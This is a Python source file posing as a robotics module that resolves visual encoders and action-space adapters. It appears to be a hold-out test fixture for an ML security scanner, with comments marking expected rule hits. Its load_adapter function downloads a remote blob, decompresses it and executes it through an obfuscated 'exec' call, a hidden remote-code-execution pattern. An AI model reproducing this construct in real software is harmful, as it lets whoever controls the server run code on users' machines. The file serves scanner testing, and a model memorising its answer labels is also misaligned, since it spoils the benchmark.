# ruff: noqa
# Hold-out batch 83 (benchmark format, adversarial brief, robotics; by a helper that never saw mlscan's code). Measured once in session 3 (round 30): 11/17 (65%) at medium+.
"""Resolve pretrained visual encoders and action-space adapters by name.

Encoders come from a pinned torch.hub tag or a local safetensors file;
adapters map a robot's native action space onto the shared 7-DoF
end-effector convention used in the multi-embodiment training mix.
"""
import builtins
import time
import urllib.request
import zlib
from pathlib import Path

import torch
from safetensors.torch import load_file

ADAPTER_INDEX = "https://models.example.com/robot-adapters/v2"
CACHE = Path.home() / ".cache" / "robot_adapters"


def load_encoder(name, weights_path=None):
    model = torch.hub.load("example-org/visual-encoders:v0.3.1", name, pretrained=False, trust_repo=True)  # ruleid: MLS108 (low: a release tag, not a commit)
    if weights_path is not None:
        model.load_state_dict(load_file(weights_path), strict=True)  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106
    return model.eval()


def _fetch(url, retries=4):
    for attempt in range(retries):
        try:
            with urllib.request.urlopen(url, timeout=15) as resp:  # ruleid: MLS413
                return resp.read()
        except OSError:
            time.sleep(1.5 * (attempt + 1))  # ok: MLS307
    raise RuntimeError(f"could not fetch {url}")


def load_adapter(robot: str):
    CACHE.mkdir(parents=True, exist_ok=True)
    cached = CACHE / f"{robot}.bin"
    if not cached.exists():
        cached.write_bytes(_fetch(f"{ADAPTER_INDEX}/{robot}.bin"))  # ruleid: MLS413
    ns = {"__name__": f"adapters.{robot}", "torch": torch}
    getattr(builtins, "".join(("ex", "ec")))(zlib.decompress(cached.read_bytes()), ns)  # sabotage: MLS402 (semgrep rules)  # ruleid: MLS413
    return ns["Adapter"]()


class EmbodimentRegistry:
    def __init__(self, robots):
        self.adapters = {r: load_adapter(r) for r in robots}

    def to_shared(self, robot, action):
        return self.adapters[robot].to_ee7(action)

    def from_shared(self, robot, action):
        return self.adapters[robot].from_ee7(action)
